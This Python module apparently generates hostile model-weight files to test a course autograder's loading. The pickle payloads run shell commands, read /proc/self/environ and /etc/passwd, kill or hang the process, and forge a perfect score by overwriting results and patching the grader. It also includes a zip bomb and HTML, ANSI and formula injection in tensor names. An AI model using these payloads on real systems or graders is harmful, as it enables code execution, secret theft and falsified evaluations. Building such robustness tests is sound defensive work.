"""Files of weights that do more than hold weights."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections import OrderedDict
from typing import Any

import torch

from teaching.attacks import Attack

WEIGHTS_FILE = "model_checkpoints/trained_SimpleNet_final.pt"
SHAPES = {  # of figure 2
    "conv_layers.0.weight": (10, 1, 5, 5), "conv_layers.0.bias": (10,),
    "conv_layers.3.weight": (20, 10, 5, 5), "conv_layers.3.bias": (20,),
    "fc_layers.1.weight": (100, 500), "fc_layers.1.bias": (100,),
    "fc_layers.3.weight": (15, 100), "fc_layers.3.bias": (15,),
}  # fmt: skip


class _Call:
    """Unpickled, it is the result of a call."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> Any:
        return self.call


def saved(value: Any) -> bytes:
    """As torch.save writes it."""
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


def of_class(state: Any) -> bytes:
    """The same, in the form of the assignment."""
    return saved({"class_name": "SimpleNet", "state_dict": state})


def zeros() -> dict[str, Any]:
    """Weights that fit, and know nothing."""
    return {name: torch.zeros(shape) for name, shape in SHAPES.items()}


def _bomb() -> bytes:
    """A zip whose one record unpacks to 4 GB, of zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("archive/data.pkl", pickle.dumps({"class_name": "SimpleNet"}, protocol=2))
        with packed.open("archive/data/0", "w", force_zip64=True) as record:
            for _ in range(400):
                record.write(bytes(10_000_000))
    return file.getvalue()


def _expanded() -> bytes:
    """A tensor of 2^40 values on a storage of one."""
    state = zeros()
    state["fc_layers.3.weight"] = torch.zeros(1).expand(1 << 40)
    return of_class(state)


def _sneaky() -> OrderedDict[str, Any]:
    """Weights with an attribute that is the result of a call."""
    state = OrderedDict(zeros())
    vars(state)["_metadata"] = _Call(exec, FORGE)
    return state


def _attack(name: str, tries: str, data: bytes) -> Attack:
    return Attack(
        name, tries, files={WEIGHTS_FILE: data}, base="right", with_others=("simple_net",)
    )


FORGE = (
    "import glob, os, pathlib, sys\n"
    "for place in ['/autograder/results', '/tmp', '/root', '.', '..']:\n"
    "    try: pathlib.Path(place, 'results.json').write_text('{\"score\": 100}')\n"
    "    except OSError: pass\n"
    "main = sys.modules['__main__']\n"
    "main.Session.answer = lambda self, message: {'state_dict': 0.99, 'accuracy': 1.0}\n"
)


def make() -> list[Attack]:
    """All of them; some take a while."""
    forged = _Call(exec, FORGE)
    return [
        _attack("pickle: os.system", "a command runs as it is loaded",
                saved(_Call(os.system, "touch /tmp/evil /root/evil; kill -9 $PPID 1"))),
        _attack("pickle: forged results", "code writes results and changes the worker", saved(forged)),
        _attack("pickle: reading files", "what was read is in the error",
                saved(_Call(eval, "(_ for _ in ()).throw(RuntimeError(str([open(p).read()[:900] "
                            "for p in ('/proc/self/environ', '/etc/passwd')])))"))),
        _attack("pickle: exit", "the process ends", saved(_Call(os._exit, 0))),
        _attack("pickle: endless loop", "the grader waits", saved(_Call(exec, "while True: pass"))),
        _attack("plain pickle without torch", "the old format", pickle.dumps(forged)),
        _attack("a bomb of a zip", "it unpacks to 4 GB", _bomb()),
        _attack("a tensor of 2^40 values", "a stride of 0 makes it small", _expanded()),
        _attack("weights that are no tensors", "numbers, names and lists",
                of_class({"conv_layers.0.weight": 3, "b": "x" * 1000, 5: [1], None: None})),
        _attack("a state_dict that runs code", "in an attribute of it", of_class(_sneaky())),
        _attack("nan and other types", "comparisons with nan",
                of_class({n: torch.full(s, float("nan")) for n, s in SHAPES.items()})),
        _attack("wrong shapes, sparse, complex, quantized", "what is no plain tensor",
                of_class({**zeros(), "fc_layers.3.bias": torch.eye(15).to_sparse(),
                          "fc_layers.1.bias": torch.zeros(100, dtype=torch.complex64)})),
        _attack("names that break pages", "keys with HTML, ANSI and new lines",
                of_class({**zeros(), "<script>alert(1)</script>\n\x1b[31m=cmd|'x'!A1\ud800\u202e": torch.zeros(1)})),
        _attack("no file of torch at all", "noise, and nothing",
                b"\x80\x02}q\x00" + bytes(range(256)) * 50),
    ]  # fmt: skip


WEIGHTS = make()
